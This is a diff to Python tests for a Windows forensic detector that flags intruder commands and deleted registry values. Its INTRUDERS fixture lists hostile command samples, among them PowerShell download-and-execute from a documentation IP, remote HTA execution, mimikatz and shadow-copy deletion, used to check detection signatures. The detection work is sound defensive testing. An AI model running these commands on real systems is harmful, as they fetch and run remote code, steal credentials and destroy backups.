@@ -18,15 +18,21 @@ import hive_samples
 from hive_writing import tree, write
 
 from headwater.detect import registry
-from headwater.detect.detectors import windows_accounts, windows_autoruns, windows_defences, windows_traces
-from headwater.detect.windows_commands import program_of, signs
+from headwater.detect.detectors import (
+    windows_accounts,
+    windows_autoruns,
+    windows_defences,
+    windows_deleted,
+    windows_traces,
+)
+from headwater.detect.windows_commands import SIEVE, SIGNS, Sign, program_of, signs
 from headwater.examine.parsers import windows_registry
 from headwater.model.kinds import SEVERITY_ORDER, Severity
 from headwater.model.ports import Settings
 from headwater.model.records import File
 
 SHARED = Path(__file__).parents[3] / "shared" / "data" / "plaso" / "test_data"
-DETECTORS = (windows_accounts, windows_autoruns, windows_defences, windows_traces)
+DETECTORS = (windows_accounts, windows_autoruns, windows_defences, windows_deleted, windows_traces)
 
 
 def events_of(hives: dict[str, bytes]) -> MemoryEvents:
@@ -122,6 +128,19 @@ def test_traces_of_one_program_are_one_finding(after: list[Any]) -> None:
     assert {c.claims["trace"] for c in finding.spans} == {"shimcache", "bam", "amcache", "muicache"}
 
 
+INTRUDERS = (
+    ("C:\\Users\\Public\\svchost.exe", "masquerade"),
+    ("cmd.exe /c echo abcd > \\\\.\\pipe\\abcd", "pipe"),
+    ("mshta.exe http://203.0.113.9/a.hta", "script-host"),
+    ("powershell -c IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')", "download"),
+    ("powershell -nop -e SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA", "encoded"),
+    ("powershell [Reflection.Assembly]::Load([Convert]::FromBase64String($a))", "memory-load"),
+    ("%COMSPEC% /Q /c echo dir ^> \\\\127.0.0.1\\C$\\__output", "shell-service"),
+    ("C:\\$Recycle.Bin\\a.exe", "public"),
+    ("C:\\Tools\\rclone.exe mount r: x:", "dual-use"),
+    ("C:\\x\\mimikatz.exe privilege::debug", "tool"),
+    ("vssadmin.exe Delete Shadows /All /Quiet", "shadow-delete"),
+)
 STOCK_SYSTEM: dict[str, dict[str, Any]] = {
     "Select": {"Current": 1},
     "ControlSet001\\Control\\Lsa": {
@@ -192,6 +211,21 @@ def test_what_windows_itself_starts_and_sets_says_nothing() -> None:
     assert [f.text.en for f in found if SEVERITY_ORDER[f.severity] > SEVERITY_ORDER[Severity.LOW]] == []
 
 
+def test_a_deleted_value_with_an_intruders_command_is_told() -> None:
+    (finding,) = told(events_of({"/Users/A/NTUSER.DAT": hive_samples.with_remains()}))
+    assert finding.rule.id == "windows-deleted"
+    assert finding.severity is Severity.MEDIUM
+    assert finding.spans[0].claims["claim"] == "its data: as-left"
+    assert finding.spans[0].claims["data"] == "C:\\Users\\Public\\gone.exe"
+
+
+@pytest.mark.parametrize("sign", [s for s in SIGNS if s.strong], ids=lambda s: s.name)
+def test_the_sieve_lets_every_strong_sign_through(sign: Sign) -> None:
+    commands = [c for c, n in INTRUDERS if n == sign.name]
+    assert all(any(word in c.lower() for word in SIEVE) for c in commands)
+    assert commands, f"no example of {sign.name}"
+
+
 def test_the_same_server_before_says_nothing() -> None:
     assert [f for f in told(server(False)) if SEVERITY_ORDER[f.severity] > SEVERITY_ORDER[Severity.LOW]] == []
 
@@ -226,19 +260,7 @@ def test_an_ordinary_command_has_no_strong_sign(command: str) -> None:
     assert [s.name for s in signs(command) if s.strong] == []
 
 
-@pytest.mark.parametrize(
-    ("command", "name"),
-    [
-        ("C:\\Users\\Public\\svchost.exe", "masquerade"),
-        ("cmd.exe /c echo abcd > \\\\.\\pipe\\abcd", "pipe"),
-        ("mshta.exe http://203.0.113.9/a.hta", "script-host"),
-        ("powershell -c IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')", "download"),
-        ("%COMSPEC% /Q /c echo dir ^> \\\\127.0.0.1\\C$\\__output", "shell-service"),
-        ("C:\\$Recycle.Bin\\a.exe", "public"),
-        ("C:\\Tools\\rclone.exe mount r: x:", "dual-use"),
-        ("vssadmin.exe Delete Shadows /All /Quiet", "shadow-delete"),
-    ],
-)
+@pytest.mark.parametrize(("command", "name"), INTRUDERS)
 def test_an_intruders_command_has_its_sign(command: str, name: str) -> None:
     assert name in [s.name for s in signs(command)]
 
